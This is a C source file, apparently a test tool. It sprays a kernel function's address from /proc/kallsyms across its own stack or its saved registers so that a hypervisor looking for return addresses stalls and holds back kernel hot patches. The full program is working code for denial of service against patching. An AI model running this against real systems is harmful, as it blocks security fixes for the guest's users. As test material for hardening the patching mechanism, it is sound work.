/*
 * A local user trying to hold every hot patch back by putting a kernel address where a
 * hypervisor looking for return addresses into kernel code might read it.
 *
 *   stack_spray FUNCTION OFFSET [stack|sleep|syscalls]
 *
 * The address is FUNCTION's, from /proc/kallsyms, plus OFFSET (decimal or 0x-hex): an address
 * inside the bytes a patch's jump displaces, or inside a function a multi-function patch
 * replaces. Then:
 *   stack     fills its own (user) stack with it and spins in user mode on top of it;
 *   sleep     blocks in pause() with it in rbx and r12-r15, which the kernel saves at the
 *             top of the task's kernel stack (pt_regs) for as long as it sleeps;
 *   syscalls  makes system calls (getppid) in a loop with it in those registers, so a pause
 *             often catches the vCPU in the kernel with them saved just above its RSP.
 * A hypervisor that took any of these words for a return address would wait forever.
 *
 * It runs at the lowest priority (nice 19), so the guest's own work goes on, and runs whenever
 * nothing else does. Prints "stack_spray: FUNCTION+OFFSET = ADDR (MODE)" once set up, then
 * never returns.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

#define WORDS 2048

/* The system call `nr` with `word` in the callee-saved registers rbx and r12-r15, which the
 * kernel's entry saves in pt_regs with the rest. */
static void syscall_holding(long nr, unsigned long word)
{
	__asm__ volatile("mov %1, %%rbx\n\t"
			 "mov %1, %%r12\n\t"
			 "mov %1, %%r13\n\t"
			 "mov %1, %%r14\n\t"
			 "mov %1, %%r15\n\t"
			 "syscall"
			 : "+a"(nr)
			 : "r"(word)
			 : "rbx", "r12", "r13", "r14", "r15", "rcx", "r11", "memory");
}

int main(int argc, char **argv)
{
	const char *mode = argc == 4 ? argv[3] : "stack";
	if ((argc != 3 && argc != 4) ||
	    (strcmp(mode, "stack") && strcmp(mode, "sleep") && strcmp(mode, "syscalls"))) {
		fprintf(stderr, "usage: stack_spray FUNCTION OFFSET [stack|sleep|syscalls]\n");
		return 2;
	}
	/* Close what the shell left open beyond stdio (a here-document's or a command
	 * substitution's pipe), or whoever reads that pipe would wait for this to end. */
	for (int fd = 3; fd < 1024; fd++)
		close(fd);
	if (nice(19) == -1)
		perror("stack_spray: nice");
	FILE *f = fopen("/proc/kallsyms", "r");
	if (!f) {
		perror("stack_spray: /proc/kallsyms");
		return 1;
	}
	unsigned long addr = 0;
	char line[512];
	while (fgets(line, sizeof line, f)) {
		unsigned long a;
		char type, name[256];
		if (sscanf(line, "%lx %c %255s", &a, &type, name) == 3 &&
		    strcmp(name, argv[1]) == 0) {
			addr = a;
			break;
		}
	}
	fclose(f);
	if (!addr) {
		fprintf(stderr, "stack_spray: %s is not in /proc/kallsyms (or its address is hidden)\n",
			argv[1]);
		return 1;
	}
	unsigned long word = addr + strtoul(argv[2], NULL, 0);
	printf("stack_spray: %s+%s = %lx (%s)\n", argv[1], argv[2], word, mode);
	fflush(stdout);
	if (!strcmp(mode, "sleep"))
		for (;;)
			syscall_holding(SYS_pause, word);
	if (!strcmp(mode, "syscalls"))
		for (;;)
			syscall_holding(SYS_getppid, word);
	volatile unsigned long stack[WORDS];
	for (int i = 0; i < WORDS; i++)
		stack[i] = word;
	/* Spin without a call, so the stack pointer stays just below the words. */
	for (;;)
		__asm__ volatile("" : : "r"(stack) : "memory");
}
